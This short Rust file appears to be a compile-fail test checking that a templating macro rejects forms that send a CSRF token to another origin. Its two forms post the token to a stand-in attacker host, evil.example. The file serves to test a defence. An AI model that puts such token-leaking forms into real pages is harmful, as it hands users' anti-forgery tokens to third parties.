// A form posting to another site would hand it the CSRF token.
fn main() {
    let token = vetted::csrf::CsrfToken::new("csrf", "t0k");
    let _ = vetted::html! {
        <form method="post" action="https://evil.example/collect" csrf={&token}></form>
        <form method="post" action="//evil.example/collect" csrf={&token}></form>
    };
}
